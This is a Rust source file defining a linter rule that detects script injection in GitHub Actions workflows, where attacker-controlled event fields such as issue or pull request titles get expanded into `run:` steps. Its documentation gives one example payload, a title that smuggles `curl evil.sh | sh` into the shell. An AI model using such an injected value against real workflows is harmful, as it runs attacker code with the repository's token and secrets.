use super::{expressions, steps, tainted};
use crate::parse::Document;
use crate::parse::workflow::action_name;
use crate::rules::{Context, declare_rule};

declare_rule! {
    /// ## What it does
    /// Flags an attacker-controllable expression expanded into code: a `${{ … }}` in a step's
    /// `run:` (workflows and composite actions) or in the `script:` of `actions/github-script`,
    /// whose value comes from a context that outsiders choose — `github.event.issue.title`,
    /// `…issue.body`, `…pull_request.title`, `…pull_request.body`, `…pull_request.head.ref`,
    /// `github.head_ref`, `…comment.body`, `…review.body`, `…review_comment.body`,
    /// `…discussion.title`, commit messages and author names, `…workflow_run.head_branch`,
    /// `…client_payload.*`, and objects containing them (`toJSON(github.event)`).
    ///
    /// The decision is made on the parsed expression: `contains(github.event.issue.title, 'x')`
    /// or `github.head_ref == 'main'` yield booleans and are fine; `format(…)`, `join(…)`,
    /// `toJSON(…)`, `||` and `&&` pass values through. Values only maintainers set (release
    /// fields, `workflow_dispatch` inputs, pushed tag names) and step outputs are not reported.
    /// The finding points at the expression inside the script.
    ///
    /// ## Why is this bad?
    /// GitHub substitutes `${{ }}` into the script text before the shell runs it. A pull request
    /// titled `"; curl evil.sh | sh; echo "` runs that command with the workflow's token and
    /// secrets — the classic GitHub Actions script injection.
    ///
    /// ## Example
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - ${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through an environment variable, which the shell does not execute:
    /// ```yaml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue - $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    pub static TEMPLATE_INJECTION = {
        id: "template-injection",
        summary: "attacker-controlled expression expanded into a script",
        level: Error,
        kinds: [Workflow, Action],
        tags: ["security", "injection", "external/cwe/cwe-94"],
        security_severity: Some("9.0"),
        check: Some(check),
    }
}

fn check(doc: &Document, cx: &mut Context) {
    let mut reports = Vec::new();
    for (_, step) in steps(doc) {
        let mut code = Vec::new();
        if let Some(run) = step.get("run") {
            code.push((run, "`run:`"));
        }
        if action_name(step).as_deref() == Some("actions/github-script")
            && let Some(script) = step.get("with").and_then(|w| w.get("script"))
        {
            code.push((script, "the `github-script` script"));
        }
        for (node, place) in code {
            for (span, expr) in expressions(node, &cx.file.text) {
                if let Some((context, _)) = tainted(&expr).into_iter().next() {
                    reports.push((span, format!("`{context}` is attacker-controlled and is expanded into {place}: it can inject code")));
                }
            }
        }
    }
    for (span, message) in reports {
        cx.report(span, message)
            .help("pass the value through `env:` (`TITLE: ${{ … }}`) and use it as a shell variable (`\"$TITLE\"`), or `process.env.TITLE` in github-script");
    }
}
